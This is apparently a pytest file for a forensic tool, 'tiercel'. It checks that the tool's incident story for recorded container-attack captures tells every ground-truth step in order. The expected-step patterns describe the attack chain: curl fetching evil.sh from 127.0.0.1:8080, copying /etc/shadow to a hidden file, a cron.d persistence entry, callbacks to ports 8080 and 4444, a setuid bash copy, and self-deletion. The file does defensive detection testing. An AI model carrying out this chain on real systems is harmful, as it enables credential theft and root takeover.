"""The story of recorded attacks, against what is known to have been done."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from tests.cli.command import tiercel
from tests.reference import SHARED, needs_reference

pytestmark = [needs_reference, pytest.mark.slow]

MODERN = SHARED / "captures" / "modern"

STEPS = [  # of ground-truth.yaml and the script in it, in their order
    r"runc .* exec -t \S+ bash",
    r"bash .* began as root with a terminal, by exec into the container",
    r"ran curl http://127.0.0.1:8080/evil.sh -o /tmp/evil.sh",
    r"curl .* connected to 127.0.0.1:8080",
    r"curl .* created /tmp/evil.sh and wrote 316 bytes",
    r"ran chmod \+x /tmp/evil.sh",
    r"chmod .* made /tmp/evil.sh executable",
    r"ran evil.sh /tmp/evil.sh .*had been written by curl",
    r"created /tmp/.s ",
    r"ran cat /etc/shadow",
    r"cat .* read 221 bytes of /etc/shadow",
    r"cat .* wrote 221 bytes to /tmp/.s",
    r"evil.sh .* created /etc/cron.d/x and wrote 26 bytes",
    r"evil.sh .* connected to 127.0.0.1:8080.* sent 22 bytes",
    r"cat .* received 245 bytes from 127.0.0.1:8080",
    r"evil.sh .* tried to connect to 127.0.0.1:4444 and failed",
    r"ran cp /bin/bash /tmp/.b",
    r"cp .* created /tmp/.b and wrote",
    r"ran chmod u\+s /tmp/.b",
    r"chmod .* made /tmp/.b run with the rights of its owner",
    r"ran .b -c true",
    r"ran rm -f /tmp/evil.sh",
    r"rm .* deleted /tmp/evil.sh, which evil.sh .* was running .*: it removed itself",
]

ATTACK = re.compile(
    r"evil\.sh|/tmp/\.[sb]|\.b |/etc/shadow|/etc/cron\.d/x|127\.0\.0\.1:(8080|4444)|runc .* bash|bash|ran cat"
)


@pytest.mark.parametrize("name", ["a-seed-webshell", "e-noisy-mixture"])
def test_every_step_is_told_in_order_and_none_invented(name: str, tmp_path: Path) -> None:
    paths = [MODERN / name / f"{name}.scap", MODERN / name / "alerts-stock.jsonl"]
    ran = tiercel("investigate", *paths, "-o", "case", cwd=tmp_path, HOME=str(tmp_path))
    assert ran.code == 0, ran.stderr
    story = [line for line in ran.lines if line.startswith("At ")]
    at = 0
    for step in STEPS:
        found = next((place for place in range(at, len(story)) if re.search(step, story[place])), None)
        assert found is not None, f"{step} is not told after line {at}: {story[at : at + 2]}"
        at = found
    assert [line for line in story if not ATTACK.search(line)] == []
    assert len(story) <= len(STEPS) + 8  # sentences of one step apart, and the alerts of Falco's rules
    assert ran.lines[-1].startswith("1 incident, ")
    incidents = tiercel("case", "incidents", "case", "--json", cwd=tmp_path, HOME=str(tmp_path))
    phases = json.loads(incidents.lines[0])["phases"]
    assert {"persistence", "privilege escalation", "credential access", "command and control"} <= set(phases)
